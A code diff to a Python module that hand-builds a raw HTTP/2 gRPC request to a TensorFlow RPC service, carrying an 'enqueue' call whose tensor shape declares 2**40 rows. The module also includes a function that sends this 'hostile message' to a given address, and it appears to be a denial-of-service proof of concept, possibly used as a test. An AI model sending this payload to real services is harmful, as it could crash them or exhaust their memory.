@@ -8,27 +8,37 @@ import contextlib
 import socket
 import struct
 
-_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+_MOST_IN_FRAME = 16_000  # bytes; HTTP/2 allows 16,384
 
 
 def hostile_message(rows: int = 2**40) -> bytes:
     """Return all bytes that a client sends."""
-    shape = _field(2, b"\x08" + _varint(rows)) + _field(2, b"\x08\x03")
-    tensor = b"\x08\x01" + _field(2, shape) + _field(5, struct.pack("<f", 0))
-    call = _field(1, b"enqueue") + _field(2, tensor)
+    shape = field(2, b"\x08" + _varint(rows)) + field(2, b"\x08\x03")
+    tensor = b"\x08\x01" + field(2, shape) + field(5, struct.pack("<f", 0))
+    return PREFACE + headers() + data_frames(field(1, b"enqueue") + field(2, tensor))
+
+
+def headers(path: bytes = b"/tensorflow.rpc.RpcService/Call") -> bytes:
+    """Return the frame that begins a call."""
     names = (
         (b":method", b"POST"),
         (b":scheme", b"http"),
-        (b":path", b"/tensorflow.rpc.RpcService/Call"),
+        (b":path", path),
         (b":authority", b"x"),
         (b"content-type", b"application/grpc"),
         (b"te", b"trailers"),
     )
-    headers = b"".join(
+    encoded = b"".join(
         b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value for name, value in names
     )
+    return _frame(1, 4, 1, encoded)
+
+
+def data_frames(call: bytes) -> bytes:
+    """Return the frames of a call's message, which end what is sent."""
     data = b"\0" + struct.pack(">I", len(call)) + call
-    return _PREFACE + _frame(4, 0, 0) + _frame(1, 4, 1, headers) + _frame(0, 1, 1, data)
+    parts = [data[i : i + _MOST_IN_FRAME] for i in range(0, len(data), _MOST_IN_FRAME)]
+    return b"".join(_frame(0, part is parts[-1], 1, part) for part in parts)
 
 
 def send_hostile(address: str) -> socket.socket:
@@ -51,8 +61,12 @@ def _frame(kind: int, flags: int, stream: int, content: bytes = b"") -> bytes:
     )
 
 
-def _field(number: int, content: bytes) -> bytes:
+def field(number: int, content: bytes) -> bytes:
+    """Return bytes as a field of a protocol buffer."""
     return bytes([number << 3 | 2]) + _varint(len(content)) + content
+
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0)
 
 
 def _varint(number: int) -> bytes:
